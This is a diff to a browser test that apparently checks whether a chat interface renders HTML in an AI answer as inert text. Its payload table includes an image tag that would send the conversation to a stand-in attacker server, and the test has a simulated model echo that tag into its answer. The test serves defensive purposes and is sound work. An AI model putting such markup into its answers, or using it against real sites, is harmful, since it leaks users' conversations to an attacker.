@@ -72,6 +72,8 @@ def beacon() -> Iterator[Beacon]:
         b.close()
 
 
+# Text after each payload, shown once the answer is rendered: the payload was delivered.
+DELIVERED = "payload-delivered"
 # name -> the answer's text; `{beacon}` is the attacker's server.
 PAYLOADS = {
     "img_beacon": 'Done. <img src="{beacon}/img?c=conversation">',
@@ -98,9 +100,11 @@ def test_an_answer_carrying_html_renders_inert(
     name: str,
 ) -> None:
     open_page(browser, stack)
-    ask(browser, ECHO + PAYLOADS[name].format(beacon=beacon.url))
+    ask(browser, ECHO + PAYLOADS[name].format(beacon=beacon.url) + f" {DELIVERED}")
     wait_until(lambda: bool(timings(browser)), 30, "the whole answer")
     log = browser.find_element(By.ID, "log")
+    # The payload did reach the page (the sim echoed it): else this test proves nothing.
+    assert DELIVERED in log.text, log.text
     found = browser.execute_script(
         "const log = document.getElementById('log');"
         "return {img: log.querySelectorAll('img').length,"
